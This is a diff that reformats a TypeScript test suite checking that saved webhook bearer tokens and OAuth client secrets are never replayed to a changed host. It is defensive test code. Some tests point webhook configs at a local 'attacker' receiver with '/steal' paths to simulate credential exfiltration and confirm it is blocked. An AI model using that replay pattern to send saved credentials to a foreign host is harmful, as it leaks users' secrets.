@@ -25,7 +25,12 @@ beforeAll(async () => {
   company = await makeCompany(env.deps, "Secret Replay Co");
   saved = await startReceiver();
   attacker = await startReceiver();
-  const res = await createWebhook.run(env.deps, company.owner, { name: "ERP", eventType: "deal.updated", url: `${saved.url}/erp`, auth: { type: "bearer", token: TOKEN } });
+  const res = await createWebhook.run(env.deps, company.owner, {
+    name: "ERP",
+    eventType: "deal.updated",
+    url: `${saved.url}/erp`,
+    auth: { type: "bearer", token: TOKEN },
+  });
   if (!res.ok) throw new Error(res.error);
   webhookId = res.data.webhookId;
 });
@@ -35,26 +40,54 @@ afterAll(async () => {
   await env.close();
 });
 
-const draft = (url: string, token = "") => ({ name: "ERP", eventType: "deal.updated", url, auth: { type: "bearer", token } });
+const draft = (url: string, token = "") => ({
+  name: "ERP",
+  eventType: "deal.updated",
+  url,
+  auth: { type: "bearer", token },
+});
 
 describe("a saved secret goes only to the host it was saved for", () => {
   it("Test to another host with the token left blank: refused with a field error, nothing sent", async () => {
-    const res = await testWebhookDraft.run(env.deps, company.owner, { webhookId, config: draft(`${attacker.url}/steal`) });
+    const res = await testWebhookDraft.run(env.deps, company.owner, {
+      webhookId,
+      config: draft(`${attacker.url}/steal`),
+    });
     if (!res.ok) throw new Error(res.error);
-    expect(res.data).toMatchObject({ ok: false, fieldErrors: { "auth.token": [expect.stringMatching(/^The host changed \(from 127\.0\.0\.1:\d+ to 127\.0\.0\.1:\d+\): type the token again/)] } });
+    expect(res.data).toMatchObject({
+      ok: false,
+      fieldErrors: {
+        "auth.token": [
+          expect.stringMatching(
+            /^The host changed \(from 127\.0\.0\.1:\d+ to 127\.0\.0\.1:\d+\): type the token again/,
+          ),
+        ],
+      },
+    });
     expect(attacker.received).toHaveLength(0);
   });
 
   it("Test to the same host uses the saved token; a token typed for the new host is used there; each send is audited", async () => {
-    const same = await testWebhookDraft.run(env.deps, company.owner, { webhookId, config: draft(`${saved.url}/erp/v2`) });
+    const same = await testWebhookDraft.run(env.deps, company.owner, {
+      webhookId,
+      config: draft(`${saved.url}/erp/v2`),
+    });
     expect(same).toMatchObject({ ok: true, data: { ok: true } });
     expect(saved.received.at(-1)?.headers.authorization).toBe(`Bearer ${TOKEN}`);
-    const typed = await testWebhookDraft.run(env.deps, company.owner, { webhookId, config: draft(`${attacker.url}/new-erp`, "a-token-typed-for-the-new-host") });
+    const typed = await testWebhookDraft.run(env.deps, company.owner, {
+      webhookId,
+      config: draft(`${attacker.url}/new-erp`, "a-token-typed-for-the-new-host"),
+    });
     expect(typed).toMatchObject({ ok: true, data: { ok: true } });
     expect(attacker.received.map((r) => r.headers.authorization)).toEqual(["Bearer a-token-typed-for-the-new-host"]);
 
-    const entries = await env.db.select().from(auditLog).where(and(eq(auditLog.companyId, company.companyId), eq(auditLog.action, "webhook.tested")));
-    expect(entries.map((e) => ({ actor: e.actorUserId, host: e.details.host, saved: e.details.savedSecretsUsed }))).toEqual([
+    const entries = await env.db
+      .select()
+      .from(auditLog)
+      .where(and(eq(auditLog.companyId, company.companyId), eq(auditLog.action, "webhook.tested")));
+    expect(
+      entries.map((e) => ({ actor: e.actorUserId, host: e.details.host, saved: e.details.savedSecretsUsed })),
+    ).toEqual([
       { actor: company.owner.userId, host: new URL(saved.url).host, saved: true },
       { actor: company.owner.userId, host: new URL(attacker.url).host, saved: false },
     ]);
@@ -63,9 +96,15 @@ describe("a saved secret goes only to the host it was saved for", () => {
 
   it("saving with another host and the token left blank is refused; the saved row keeps its URL", async () => {
     const res = await updateWebhook.run(env.deps, company.owner, { webhookId, ...draft(`${attacker.url}/steal`) });
-    expect(res).toMatchObject({ ok: false, code: "invalid", fieldErrors: { "auth.token": [expect.stringMatching(/^The host changed/)] } });
+    expect(res).toMatchObject({
+      ok: false,
+      code: "invalid",
+      fieldErrors: { "auth.token": [expect.stringMatching(/^The host changed/)] },
+    });
     // Same host, blank token: the saved one is kept.
-    expect(await updateWebhook.run(env.deps, company.owner, { webhookId, ...draft(`${saved.url}/erp/v3`) })).toMatchObject({ ok: true });
+    expect(
+      await updateWebhook.run(env.deps, company.owner, { webhookId, ...draft(`${saved.url}/erp/v3`) }),
+    ).toMatchObject({ ok: true });
   });
 
   it("an OAuth credential whose token URL moves to another host needs its client secret again", async () => {
@@ -90,9 +129,20 @@ describe("a saved secret goes only to the host it was saved for", () => {
       ],
     });
     const moved = await updateOAuthCredential.run(env.deps, company.owner, input(`${attacker.url}/token`));
-    expect(moved).toMatchObject({ ok: false, code: "invalid", fieldErrors: { "parameters.1.value": [expect.stringMatching(/^The host changed .*type the value of client_secret again/)] } });
-    const [row] = await env.db.select().from(oauthCredentials).where(eq(oauthCredentials.id, created.data.credentialId));
+    expect(moved).toMatchObject({
+      ok: false,
+      code: "invalid",
+      fieldErrors: {
+        "parameters.1.value": [expect.stringMatching(/^The host changed .*type the value of client_secret again/)],
+      },
+    });
+    const [row] = await env.db
+      .select()
+      .from(oauthCredentials)
+      .where(eq(oauthCredentials.id, created.data.credentialId));
     expect(row.tokenUrl).toBe(`${saved.url}/token`);
-    expect(await updateOAuthCredential.run(env.deps, company.owner, input(`${saved.url}/oauth/token`))).toMatchObject({ ok: true });
+    expect(await updateOAuthCredential.run(env.deps, company.owner, input(`${saved.url}/oauth/token`))).toMatchObject({
+      ok: true,
+    });
   });
 });
